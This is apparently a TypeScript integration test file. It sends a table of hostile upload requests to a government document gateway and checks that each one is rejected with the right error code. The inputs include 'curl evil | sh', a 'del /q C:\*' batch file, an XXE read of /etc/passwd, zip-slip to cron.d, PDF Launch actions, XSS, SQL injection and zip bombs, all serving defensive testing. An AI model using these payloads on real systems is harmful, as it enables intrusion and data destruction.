// Hostile applicants against the REAL external gateway process, over real HTTPS: one table row per
// attack — the request (body, headers, client certificate), the HTTP status and error code it must get,
// and the policy rule where the policy decides. The internal gateway is started only after the table,
// so the external outbox shows exactly what would have crossed: the accepted rows and nothing else;
// then the intranet must record exactly those cases. The shipped config/policy.yaml is used unchanged
// (its rate limits included).
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import Database from 'better-sqlite3';
import zlib from 'node:zlib';
import { join } from 'node:path';
import type { FerryErrorCode } from '../../src/errors.js';
import { ERRORS } from '../../src/errors.js';
import { intranetCall, operatorHealth, preparePair, primeCatalogue, spawnGateway, type GatewayProc, type PairFiles } from '../helpers/gateways.js';
import { ELF, OFD_XML, makeJpeg, makeOfd, makePdf, makePe, makePng, ofdMembers, pageXml, withMember } from '../policy-content/samples.js';
import { buildZip } from '../policy-content/zip-builder.js';
import { issueClientCert, otherCa, type ClientCert } from './client-certs.js';
import { send, type RawRequest } from './https-raw.js';
import { attachment, submission, withFile } from './submissions.js';

interface Row {
  name: string;
  request: () => RawRequest;
  status: number;
  /** The error code; absent for an accepted (202) row. */
  code?: FerryErrorCode;
  /** The rule named in the refusal: 'content' for the inspector, a policy rule id, or none (shape). */
  rule?: string;
  /** Sent first, each must be accepted (they count as accepted rows). */
  prime?: () => RawRequest[];
}

const b = (s: string) => Buffer.from(s, 'latin1');
const MiB = 1024 * 1024;
const body = (text: string, headers?: Record<string, string>): RawRequest => ({ body: text, ...(headers ? { headers } : {}) });
const file = (fileName: string, bytes: Buffer, mediaType?: string, itemCode?: string) => () => body(withFile(fileName, bytes, mediaType, itemCode));
const zip = (...m: [string, Buffer][]) => buildZip(m.map(([name, data]) => ({ name, data })));
const valid = () => JSON.parse(submission()) as Record<string, any>;

// Client certificates, made in beforeAll with openssl.
const certs: Record<'qinghe' | 'rogue' | 'foreignQinghe' | 'serverAuthQinghe' | 'twoCns' | 'linkTls', ClientCert> = {} as never;
const RATE_ID = '330100RATE0001';

const ROWS: Row[] = [
  // --- positive controls: the gateway does accept ---
  { name: 'control: a valid public submission with a PDF', request: () => body(submission()), status: 202 },
  { name: 'control: a valid submission with PNG, JPEG and OFD materials', status: 202,
    request: () => body(submission({ attachments: [{ fileName: 'id-front.png', bytes: makePng() }, { fileName: 'photo.jpg', bytes: makeJpeg() }, { fileName: 'licence.ofd', bytes: makeOfd() }] })) },
  { name: 'control: the Qinghe township centre with its certificate from the deployment CA', status: 202,
    request: () => ({ body: submission(), clientCert: certs.qinghe }) },

  // --- disguised executables and scripts ---
  { name: 'an ELF executable named report.pdf', request: file('report.pdf', ELF), status: 415, code: 'FERRY_ERR_CONTENT_EXECUTABLE', rule: 'content' },
  { name: 'a Windows PE (MZ) executable named scan.pdf', request: file('scan.pdf', makePe()), status: 415, code: 'FERRY_ERR_CONTENT_EXECUTABLE', rule: 'content' },
  { name: 'a PE declared as application/pdf and named invoice.pdf.exe', request: file('invoice.pdf.exe', makePe(), 'application/pdf'), status: 415, code: 'FERRY_ERR_CONTENT_EXECUTABLE', rule: 'content' },
  { name: 'a #!/bin/sh script named a.pdf', request: file('a.pdf', b('#!/bin/sh\ncurl evil | sh\n')), status: 415, code: 'FERRY_ERR_CONTENT_EXECUTABLE', rule: 'content' },
  { name: 'a batch script named a.pdf', request: file('a.pdf', b('@echo off\r\ndel /q C:\\*\r\n')), status: 415, code: 'FERRY_ERR_CONTENT_SCRIPT', rule: 'content' },
  { name: 'an HTML page with script named a.pdf', request: file('a.pdf', b('<!DOCTYPE html><html><script>fetch("//x")</script></html>')), status: 415, code: 'FERRY_ERR_CONTENT_SCRIPT', rule: 'content' },
  { name: 'an SVG with <script> named a.png', request: file('a.png', b('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')), status: 415, code: 'FERRY_ERR_CONTENT_SCRIPT', rule: 'content' },
  { name: 'an SVG with an onload handler named a.svg', request: file('a.svg', b('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 'image/svg+xml'), status: 415, code: 'FERRY_ERR_CONTENT_SCRIPT', rule: 'content' },
  { name: 'XML with an entity-expansion DTD named a.pdf', request: file('a.pdf', b('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "a"><!ENTITY b "&a;&a;">]><x>&b;</x>')), status: 415, code: 'FERRY_ERR_CONTENT_XML_DTD', rule: 'content' },

  // --- archives ---
  { name: 'a zip holding setup.exe, named a.pdf', request: file('a.pdf', zip(['setup.exe', makePe()])), status: 415, code: 'FERRY_ERR_CONTENT_ARCHIVE_EXECUTABLE', rule: 'content' },
  { name: 'a zip holding an ELF named readme.txt', request: file('docs.zip', zip(['readme.txt', ELF]), 'application/zip'), status: 415, code: 'FERRY_ERR_CONTENT_ARCHIVE_EXECUTABLE', rule: 'content' },
  { name: 'a plain zip of a text file', request: file('docs.zip', zip(['a.txt', b('hello')]), 'application/zip'), status: 415, code: 'FERRY_ERR_CONTENT_ARCHIVE', rule: 'content' },
  { name: 'a ZipCrypto-encrypted zip', request: file('a.pdf', buildZip([{ name: 'secret.txt', data: b('top secret'), password: 'pw' }])), status: 415, code: 'FERRY_ERR_CONTENT_ENCRYPTED', rule: 'content' },
  { name: 'a zip bomb: 32 MiB of zeros in ~32 KiB', request: file('a.pdf', zip(['zeros.txt', Buffer.alloc(32 * MiB)])), status: 413, code: 'FERRY_ERR_CONTENT_ZIP_BOMB', rule: 'content' },
  { name: 'a zip that declares 1000 bytes and inflates to 8 MiB', request: file('a.pdf', buildZip([{ name: 'a.txt', data: Buffer.alloc(8 * MiB), declaredSize: 1000 }])), status: 413, code: 'FERRY_ERR_CONTENT_ZIP_BOMB', rule: 'content' },
  { name: 'a zip-slip member ../../etc/cron.d/x', request: file('a.pdf', zip(['../../etc/cron.d/x', b('* * * * * root sh')])), status: 400, code: 'FERRY_ERR_CONTENT_ARCHIVE_PATH', rule: 'content' },
  { name: 'an OFD carrying an .exe member', request: file('a.ofd', makeOfd(withMember(ofdMembers(), { name: 'Doc_0/Res/tool.exe', data: makePe() }))), status: 415, code: 'FERRY_ERR_CONTENT_ARCHIVE_EXECUTABLE', rule: 'content' },
  { name: 'an OFD page with a javascript: action', status: 415, code: 'FERRY_ERR_CONTENT_SCRIPT', rule: 'content',
    request: file('a.ofd', makeOfd(withMember(ofdMembers(), { name: 'Doc_0/Pages/Page_0/Content.xml', data: Buffer.from(pageXml('<ofd:Actions><ofd:Action Event="PO"><ofd:URI URI="javascript:alert(1)"/></ofd:Action></ofd:Actions>')) }))) },
  { name: 'an OFD.xml with an external entity (XXE)', status: 415, code: 'FERRY_ERR_CONTENT_XML_DTD', rule: 'content',
    request: file('a.ofd', makeOfd(withMember(ofdMembers(), { name: 'OFD.xml', data: Buffer.from(OFD_XML.replace('?>', '?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>')) }))) },

  // --- PDF active content and polyglots ---
  { name: 'a PDF with a /JavaScript name tree', status: 415, code: 'FERRY_ERR_CONTENT_PDF_SCRIPT', rule: 'content',
    request: file('a.pdf', makePdf({ catalogExtra: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', extra: { 6: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>' } })) },
  { name: 'a PDF with hex-obfuscated /J#61v#61Script', status: 415, code: 'FERRY_ERR_CONTENT_PDF_SCRIPT', rule: 'content',
    request: file('a.pdf', makePdf({ extra: { 6: '<< /S /J#61v#61Script /J#53 (app.alert\\(1\\)) >>' } })) },
  { name: 'a PDF with /OpenAction', request: file('a.pdf', makePdf({ catalogExtra: '/OpenAction [3 0 R /Fit]' })), status: 415, code: 'FERRY_ERR_CONTENT_PDF_ACTION', rule: 'content' },
  { name: 'a PDF with a /Launch action', request: file('a.pdf', makePdf({ extra: { 6: '<< /S /Launch /F (cmd.exe) >>' } })), status: 415, code: 'FERRY_ERR_CONTENT_PDF_ACTION', rule: 'content' },
  { name: 'a PDF with a hex-obfuscated /L#61unch hidden in a Flate object stream', request: file('a.pdf', makePdf({ objectStream: { members: { 8: '<< /S /L#61unch /F (calc.exe) >>' } } })), status: 415, code: 'FERRY_ERR_CONTENT_PDF_ACTION', rule: 'content' },
  { name: 'a PDF with /EmbeddedFiles', status: 415, code: 'FERRY_ERR_CONTENT_PDF_EMBEDDED', rule: 'content',
    request: file('a.pdf', makePdf({ catalogExtra: '/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>', extra: { 6: '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>', 7: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream' } })) },
  { name: 'a PDF with /Encrypt in its trailer', status: 415, code: 'FERRY_ERR_CONTENT_ENCRYPTED', rule: 'content',
    request: file('a.pdf', makePdf({ trailerExtra: '/Encrypt 6 0 R', extra: { 6: '<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <00> /U <00> >>' } })) },
  { name: 'a PDF+zip polyglot (zip appended after %%EOF)', request: file('a.pdf', makePdf({ after: zip(['run.exe', makePe()]) })), status: 415, code: 'FERRY_ERR_CONTENT_POLYGLOT', rule: 'content' },
  { name: 'a JPEG with a script appended after EOI', request: file('a.jpg', makeJpeg({ after: b('<script>alert(1)</script>') })), status: 415, code: 'FERRY_ERR_CONTENT_POLYGLOT', rule: 'content' },
  { name: 'a gzip file named a.pdf', request: file('a.pdf', zlib.gzipSync(b('hello'))), status: 415, code: 'FERRY_ERR_CONTENT_ARCHIVE', rule: 'content' },
  { name: 'plain text named a.pdf (identified as nothing)', request: file('a.pdf', b('just words\n')), status: 415, code: 'FERRY_ERR_CONTENT_UNKNOWN_TYPE', rule: 'content' },

  // --- file names ---
  { name: 'a traversal name ../a.pdf', request: file('../a.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_PATH', rule: 'content' },
  { name: 'a name with a directory a/b.pdf', request: file('a/b.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_PATH', rule: 'content' },
  { name: 'a Windows path C:\\x.pdf', request: file('C:\\x.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_PATH', rule: 'content' },
  { name: 'a drive-relative name C:x.pdf', request: file('C:x.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_CHARACTER', rule: 'content' },
  { name: 'a fullwidth solidus a／b.pdf (NFKC "/")', request: file('a\uFF0Fb.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_PATH', rule: 'content' },
  { name: 'an NTFS alternate data stream a.pdf:evil.exe', request: file('a.pdf:evil.exe', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_CHARACTER', rule: 'content' },
  { name: 'the reserved device name CON.pdf', request: file('CON.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_RESERVED', rule: 'content' },
  { name: 'the reserved device name lpt1.pdf', request: file('lpt1.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_RESERVED', rule: 'content' },
  { name: 'a zero-width joiner hiding in a name', request: file('in\u200Dvoice.pdf', makePdf()), status: 400, code: 'FERRY_ERR_CONTENT_NAME_CONTROL', rule: 'content' },
  // NUL and the bidi overrides are already refused by the request's shape check, before content.
  { name: 'a NUL in a name (a.pdf\\0.exe)', request: file('a.pdf\u0000.exe', makePdf()), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a right-to-left override hiding .exe (a\\u202Efdp.exe)', request: file('a\u202Efdp.exe', makePdf()), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a left-to-right isolate in a name', request: file('a\u2066b.pdf', makePdf()), status: 400, code: 'FERRY_ERR_API_FIELD' },

  // --- types disagreeing with names, declarations and the item ---
  { name: 'a PNG named x.pdf', request: file('x.pdf', makePng(), 'application/pdf'), status: 400, code: 'FERRY_ERR_CONTENT_EXTENSION_MISMATCH', rule: 'content' },
  { name: 'a PDF declared as image/png', request: file('a.pdf', makePdf(), 'image/png'), status: 400, code: 'FERRY_ERR_CONTENT_MEDIA_TYPE_MISMATCH', rule: 'content' },
  { name: 'a GIF (a known type nobody allowed)', request: file('a.gif', b('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), 'image/gif'), status: 415, code: 'FERRY_ERR_CONTENT_TYPE_NOT_ALLOWED', rule: 'content' },
  { name: 'a PNG for item FGW-002 (documents only)', request: file('site-plan.png', makePng(), undefined, 'FGW-002'), status: 415, code: 'FERRY_ERR_POLICY_ATTACHMENT_TYPE', rule: 'public-apply' },

  // --- counts and sizes ---
  { name: '33 attachments (the limit is 32)', request: () => body(submission({ attachments: Array.from({ length: 33 }, (_, i) => ({ fileName: `p${i}.pdf`, bytes: makePdf() })) })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'an attachment of 16 MiB + 1 KiB (refused from its base64 length)', request: () => body(submission({ attachments: [{ fileName: 'big.pdf', bytes: Buffer.alloc(16 * MiB + 1024) }] })), status: 413, code: 'FERRY_ERR_API_TOO_LARGE' },
  { name: 'a valid PDF one byte over the rule\'s 16 MiB per attachment', request: () => body(submission({ attachments: [{ fileName: 'scan.pdf', bytes: makePdf({ after: Buffer.alloc(16 * MiB + 1 - makePdf().length, 0x20) }) }] })), status: 413, code: 'FERRY_ERR_POLICY_ATTACHMENT_SIZE', rule: 'public-apply' },
  { name: 'a request declaring a 49 MiB body (answered before a byte of it is read)', request: () => ({ declaredLength: 49 * MiB }), status: 413, code: 'FERRY_ERR_API_TOO_LARGE' },
  { name: 'a 49 MiB body streamed chunked, with no length to judge it by', request: () => ({ body: Buffer.alloc(49 * MiB, 0x20), chunked: true }), status: 413, code: 'FERRY_ERR_API_TOO_LARGE' },

  // --- the request itself ---
  { name: 'a form-encoded body (wrong content type)', request: () => body('itemCode=SCJG-001', { 'content-type': 'application/x-www-form-urlencoded' }), status: 415, code: 'FERRY_ERR_API_MEDIA_TYPE' },
  { name: 'a JSON body labelled text/plain', request: () => body(submission(), { 'content-type': 'text/plain' }), status: 415, code: 'FERRY_ERR_API_MEDIA_TYPE' },
  { name: 'malformed JSON (cut off)', request: () => body(submission().slice(0, 60)), status: 400, code: 'FERRY_ERR_API_JSON' },
  { name: 'a body in UTF-16 (not UTF-8 JSON)', request: () => ({ body: Buffer.from(submission(), 'utf16le') }), status: 400, code: 'FERRY_ERR_API_JSON' },
  { name: 'a JSON array instead of an object', request: () => body('[1,2,3]'), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'an unknown top-level field (status: "approved")', request: () => body(submission({ extra: { status: 'approved' } })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a __proto__ key in the applicant (prototype pollution)', request: () => body(JSON.stringify(valid()).replace('"applicant":{', '"applicant":{"__proto__":{"isAdmin":true},')), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'an unknown field in an attachment (path)', request: () => body(submission({ attachments: [] }).replace('"attachments":[]', `"attachments":[${JSON.stringify({ ...attachment({ fileName: 'a.pdf', bytes: makePdf() }), path: '/etc/passwd' })}]`)), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a phone number that is a script', request: () => body(submission({ applicant: { phone: '<script>alert(1)</script>' } })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'an id number with SQL in it', request: () => body(submission({ idNumber: "1' OR '1'='1" })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'an item code that is not an item code (../../admin)', request: () => body(submission({ itemCode: '../../admin' })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a lower-case item code (scjg-001)', request: () => body(submission({ itemCode: 'scjg-001' })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a terminal escape in the applicant name', request: () => body(submission({ applicant: { name: 'Tea\u001b[2J\u001b[31mCo' } })), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'a field value of 1e999 (Infinity)', request: () => body(submission().replace('"registeredCapital":100', '"registeredCapital":1e999')), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'arrays nested 100,000 deep in a field', request: () => body(submission().replace('"registeredCapital":100', `"registeredCapital":${'['.repeat(100_000)}${']'.repeat(100_000)}`)), status: 400, code: 'FERRY_ERR_API_FIELD' },
  { name: 'non-canonical base64 in an attachment', request: () => body(submission().replace(/"contentBase64":"[^"]+"/, '"contentBase64":"JVBERi0x!!=="')), status: 400, code: 'FERRY_ERR_API_BAD_ATTACHMENT' },
  { name: 'PUT to the submissions endpoint', request: () => ({ method: 'PUT', body: submission() }), status: 404, code: 'FERRY_ERR_API_NOT_FOUND' },
  { name: 'a traversal in the case URL', request: () => ({ method: 'GET', path: '/api/v1/cases/..%2f..%2fvar%2finternal' }), status: 400, code: 'FERRY_ERR_API_FIELD' },

  // --- rate limit (shipped policy: 10 submissions a day per applicant id) ---
  { name: 'the 11th submission in a day from one applicant id', status: 429, code: 'FERRY_ERR_POLICY_RATE', rule: 'public-apply',
    prime: () => Array.from({ length: 10 }, () => body(submission({ idNumber: RATE_ID }))),
    request: () => body(submission({ idNumber: RATE_ID })) },

  // --- client certificates ---
  { name: 'a certificate from the deployment CA for a township not in the policy', request: () => ({ body: submission(), clientCert: certs.rogue }), status: 403, code: 'FERRY_ERR_POLICY_CLIENT_CERT' },
  { name: 'a qinghe-township-centre certificate from another CA', request: () => ({ body: submission(), clientCert: certs.foreignQinghe }), status: 403, code: 'FERRY_ERR_POLICY_CLIENT_CERT' },
  { name: 'a qinghe-township-centre certificate without the clientAuth purpose', request: () => ({ body: submission(), clientCert: certs.serverAuthQinghe }), status: 403, code: 'FERRY_ERR_POLICY_CLIENT_CERT' },
  { name: 'a certificate naming two townships (two CNs)', request: () => ({ body: submission(), clientCert: certs.twoCns }), status: 403, code: 'FERRY_ERR_POLICY_CLIENT_CERT' },
  { name: 'the internal gateway\'s link TLS certificate used as a client certificate', request: () => ({ body: submission(), clientCert: certs.linkTls }), status: 403, code: 'FERRY_ERR_POLICY_CLIENT_CERT' },
];

let files: PairFiles;
let external: GatewayProc;
let internal: GatewayProc | null = null;
const accepted: string[] = [];

async function health(): Promise<Record<string, any>> {
  return operatorHealth(files.externalOperatorUrl);
}

async function until<T>(what: string, f: () => Promise<T | undefined>, timeoutMs = 20_000): Promise<T> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    try { const v = await f(); if (v !== undefined) return v; } catch { /* not up yet */ }
    if (Date.now() > end) throw new Error(`${what} not reached in ${timeoutMs} ms\n${external.log.slice(-15).join('\n')}\n${internal?.log.slice(-15).join('\n') ?? ''}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

beforeAll(async () => {
  files = await preparePair({ logLevel: 'warn' });
  external = spawnGateway('external', files.externalConfig);
  const dev = { crt: join(files.certs, 'ca.crt'), key: join(files.certs, 'ca.key') };
  const dir = join(files.dir, 'clients');
  certs.qinghe = issueClientCert(dir, 'baishi', '/CN=baishi-township-centre', dev); // baishi pins CN only; qinghe also pins a fingerprint
  certs.rogue = issueClientCert(dir, 'rogue', '/CN=rogue-township-centre', dev);
  certs.foreignQinghe = issueClientCert(dir, 'foreign', '/CN=qinghe-township-centre', otherCa(join(dir, 'other')));
  certs.serverAuthQinghe = issueClientCert(dir, 'server-auth', '/CN=qinghe-township-centre', dev, 'serverAuth');
  certs.twoCns = issueClientCert(dir, 'two-cns', '/CN=qinghe-township-centre/CN=baishi-township-centre', dev);
  const { readFileSync } = await import('node:fs');
  certs.linkTls = { key: readFileSync(join(files.certs, 'internal-tls.key')), cert: readFileSync(join(files.certs, 'internal-tls.crt')) };
  await until('external gateway listening', async () => ((await health()).gateway === 'external' ? true : undefined));
  await primeCatalogue(files);
});

afterAll(async () => {
  for (const g of [external, internal]) {
    if (g && g.proc.exitCode === null && g.proc.signalCode === null) { g.proc.kill('SIGTERM'); await g.exited; }
  }
});

describe('hostile applicant requests at the real external gateway', () => {
  it('has at least 40 distinct rows', () => {
    expect(ROWS.length).toBeGreaterThanOrEqual(40);
    expect(new Set(ROWS.map((r) => r.name)).size).toBe(ROWS.length);
    for (const r of ROWS) if (r.code) expect(ERRORS, r.name).toHaveProperty(r.code);
  });

  it.each(ROWS)('$name → $status $code', async (row) => {
    for (const p of row.prime?.() ?? []) {
      const r = await send(files.apiUrl, files.ca, p);
      expect(r.status, `priming request: ${r.text}`).toBe(202);
      accepted.push(r.json.caseId);
    }
    const r = await send(files.apiUrl, files.ca, row.request());
    expect(r.status, r.text.slice(0, 300)).toBe(row.status);
    if (row.status === 202) {
      expect(r.json.caseId).toMatch(/^F\d{8}-[0-9A-Z]{16}$/);
      accepted.push(r.json.caseId);
    } else {
      expect(r.json.error.code).toBe(row.code);
      expect(r.json.error.rule).toBe(row.rule);
      expect(r.json.error.message.length).toBeGreaterThan(0);
    }
    if (row.status === 429) expect(r.headers['retry-after']).toMatch(/^[1-9][0-9]*$/);
    expect(external.proc.exitCode, 'the external gateway exited').toBeNull();
  });

  it('let only the accepted rows into the outbox, and the intranet records exactly those cases', async () => {
    expect(accepted.length).toBe(ROWS.filter((r) => r.status === 202).length + 10);
    const h = await health();
    expect(h.outbox).toBe(accepted.length);
    expect(external.proc.exitCode).toBeNull();
    expect(external.log.filter((l) => l.includes('FERRY_ERR_API_INTERNAL'))).toEqual([]);

    // Now let the intranet dial in: everything in the outbox crosses, and nothing else does.
    internal = spawnGateway('internal', files.internalConfig);
    await until('every accepted case recorded on the intranet', async () => {
      const i = (await intranetCall(files, 'GET', '/health')).json as Record<string, number>;
      return i.cases === accepted.length && (await health()).outbox === 0 ? true : undefined;
    });
    const db = new Database(join(files.dir, 'var/internal/internal.sqlite'), { readonly: true });
    try {
      const ids = (db.prepare('SELECT case_id FROM intranet_cases ORDER BY case_id').pluck().all() as string[]);
      expect(ids).toEqual([...accepted].sort());
      // The inside re-checked all of them and refused none: what the outside let through was clean.
      expect(db.prepare('SELECT COUNT(*) FROM quarantine').pluck().get()).toBe(0);
      expect(db.prepare('SELECT COUNT(*) FROM rejected_packets').pluck().get()).toBe(0);
    } finally { db.close(); }
    expect(external.proc.exitCode).toBeNull();
    expect(internal.proc.exitCode).toBeNull();
  });
});
